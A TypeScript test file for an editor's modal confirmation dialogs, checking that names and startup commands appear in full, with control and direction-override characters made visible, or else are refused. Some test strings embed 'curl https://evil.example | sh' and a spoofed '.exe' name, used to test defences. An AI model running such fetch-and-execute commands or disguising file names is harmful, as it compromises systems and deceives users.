// A modal question shows everything that it must, one line each and lists with their count, or it is refused.
import assert from "node:assert/strict";
import { beforeEach, describe, it } from "mocha";
import { CancelledError } from "../../../../src/core/errors/cancelledError";
import { visibleLine } from "../../../../src/core/text/inertText";
import { differenceLine } from "../../../../src/editor/appSettings/settingSentences";
import { ask, confirm, paragraphs, showValue } from "../../../../src/editor/safeUi/questions";
import { type AskedWindow, askedWindow } from "../../../support/askedWindow";

const commandLine = (to: string) =>
  differenceLine({ key: "startupCommand", from: "", to, isConflict: false });
const refused = /^Error: The question about this is too long to show in full/;

describe("a modal question", () => {
  let window: AskedWindow;
  beforeEach(() => {
    window = askedWindow();
  });

  it("does nothing unless its button is pressed", async () => {
    const question = async () => await confirm("Upload to Shop?", ["/home/me/a", "To Shop"], "Upload");
    await assert.rejects(question(), CancelledError);
    assert.deepEqual(window.asked, [
      { text: "Upload to Shop?", lines: ["/home/me/a", "To Shop"], buttons: ["Upload"] },
    ]);
    window.answer = "Upload";
    await question();
  });

  it("returns the button by the caller's name", async () => {
    window.answer = "Push to $\u200b(flame)";
    assert.equal(await ask("Push?", [], ["Skip", "Push to $(flame)"]), "Push to $(flame)");
    window.answer = undefined;
    assert.equal(await ask("Push?", [], ["Skip"], "error"), undefined);
  });

  it("shows a line break, a tab and marks of direction in a name as their codes", async () => {
    const name = "a.txt\nTo Shop in the account me\r\u2028b\tc\u202egnp.exe\u0000\u{e0041}\ud800";
    await ask(`Delete ${name}?`, [name, { names: [name] }], []);
    const [question] = window.asked;
    const shown =
      "a.txt\\nTo Shop in the account me\\r\\u{2028}b\\tc\\u{202e}gnp.exe\\u{0}\\u{e0041}\\u{d800}";
    assert.deepEqual([question?.text, question?.lines], [`Delete ${shown}?`, [shown, shown]]);
  });

  it("shows wide spaces and invisible characters as their codes", () => {
    assert.equal(visibleLine("a b\u00a0c"), "a b\u00a0c");
    assert.equal(
      visibleLine("a.png   Into\u2003\u3000/tmp"),
      "a.png \\u{20}\\u{20}Into\\u{2003}\\u{3000}/tmp",
    );
    assert.equal(visibleLine("a\u034fb\u17b4\u{e0100}\ufe0f"), "a\\u{34f}b\\u{17b4}\\u{e0100}\ufe0f");
  });

  it("keeps joined letters, and makes no link and no icon of a name", () => {
    assert.equal(visibleLine("👩‍👧 می‌خواهم"), "👩‍👧 می‌خواهم");
    assert.equal(visibleLine("[run](command:x) $(flame)"), "[run]\u200b(command:x) $\u200b(flame)");
  });

  it("counts hidden names", async () => {
    const names = Array.from({ length: 13 }, (_, index) => `${index}.py`);
    for (const count of [13, 9, 8]) await ask("Push?", [{ names: names.slice(0, count) }], []);
    const eight = names.slice(0, 8);
    assert.deepEqual(
      window.asked.map(({ lines }) => lines),
      [[...eight, "and 5 more"], [...eight, "and 1 more"], eight],
    );
  });

  it("counts a name that is too long, and never cuts it", async () => {
    const long = "x".repeat(1_001);
    await ask("Push?", [{ names: [long, "b.py", long] }], []);
    await ask("Push?", [{ names: [long] }], []);
    assert.deepEqual(window.asked[0]?.lines, ["b.py", "and 2 more"]);
    assert.deepEqual(window.asked[1]?.lines, ["1 whose names are too long to be shown"]);
    await ask("Push?", [{ names: Array.from({ length: 8 }, () => "y".repeat(900)) }], []);
    assert.deepEqual(window.asked[2]?.lines, ["y".repeat(900), "y".repeat(900), "and 6 more"]);
  });

  it("is refused where a line, a required name or the whole does not fit", async () => {
    const command = `python main.py ${"x".repeat(500)}; curl https://evil.example | sh; ${"y".repeat(500)}`;
    const questions = [
      ask("Change?", [commandLine(command)], ["Change"]),
      ask(command.repeat(2), [], ["Change"]),
      ask("Push?", [{ names: ["x".repeat(1_001), "a"], mustShow: 1 }], ["Push"]),
      ask("Push?", [{ names: Array.from({ length: 40 }, String), mustShow: 17 }], ["Push"]),
      ask("Push?", Array.from({ length: 31 }, String), ["Push"]),
      ask("Push?", Array(6).fill("x".repeat(900)), ["Push"]),
    ];
    for (const question of questions) await assert.rejects(question, refused);
    assert.deepEqual(window.asked, []);
  });

  it("shows a whole start command that fits", async () => {
    const command = `python main.py ${"x".repeat(400)}; curl https://evil.example | sh; ${"y".repeat(400)}`;
    await ask("Change?", [commandLine(command)], []);
    assert.ok(window.asked[0]?.lines[0]?.includes(command));
  });

  it("separates sentences by an empty line, and shows a value with its lines", async () => {
    assert.deepEqual(paragraphs(["One.", "Two."]), ["One.", "", "Two."]);
    await showValue("KEY", "a\nb", "Copy Value");
    assert.deepEqual(window.asked, [{ text: "KEY", lines: ["a", "b"], buttons: ["Copy Value"] }]);
  });
});
